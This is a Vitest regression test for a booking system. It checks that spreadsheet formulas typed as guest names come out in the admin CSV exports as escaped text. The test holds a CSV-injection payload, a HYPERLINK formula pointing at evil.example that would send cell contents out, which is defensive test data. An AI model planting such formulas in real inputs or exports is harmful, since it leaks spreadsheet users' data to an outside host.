import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tripWorld } from './booking-fixtures.ts';
import { createTestContext, type TestContext } from './test-app.ts';

/**
 * Issue 31 finding 7: a name typed on the public booking page as a spreadsheet formula reaches the
 * operator's CSV exports as text (a leading single quote), never as a live formula.
 */
let ctx: TestContext;
let admin: string;
let trips: Record<string, string>;

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const call = (method: 'GET' | 'POST', url: string, payload?: object, token?: string) =>
  ctx.request({ method, url, ...(token ? { token } : {}), ...(payload ? { payload } : {}) });

/** The CSV's cells that begin with a formula character, unquoted the way a spreadsheet reads them. */
function liveFormulas(csv: string): string[] {
  const cells = csv.match(/(?<=^|[,;\n])("(?:[^"]|"")*"|[^,;\n]*)/g) ?? [];
  return cells
    .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell))
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell));
}

beforeAll(async () => {
  ctx = await createTestContext();
  admin = await ctx.adminToken();
  trips = await tripWorld(ctx, admin);
  await ctx.services.settings.put('booking', 'allowCustomerBooking', 'true');
  // Booked anonymously, as the probe did: the booker's first name is a formula.
  const booked = await call('POST', '/api/book/booking/create', {
    draft: { schedule: trips.s1, rooms: [{ room: trips['Cabin 1'], guests: 1 }] },
    booker: { firstName: FORMULA, lastName: '@SUM(1+1)', email: 'eve@example.test', country: 'DE' },
    guests: [{ firstName: FORMULA, lastName: '@SUM(1+1)' }],
    acceptTerms: true,
    idempotencyKey: `csv-injection-${Date.now()}`,
  });
  expect(booked.statusCode, booked.body).toBe(201);
}, 60_000);
afterAll(() => ctx?.close());

describe('CSV exports of what anonymous callers typed', () => {
  it('write the booking and customer lists with the formula as text', async () => {
    for (const url of ['/api/customer/listCSV?size=0', '/api/bookings/listCSV?size=0']) {
      const res = await call('GET', url, undefined, admin);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.body, url).toContain("'=HYPERLINK(");
      expect(liveFormulas(res.body), url).toEqual([]);
    }
  });
});
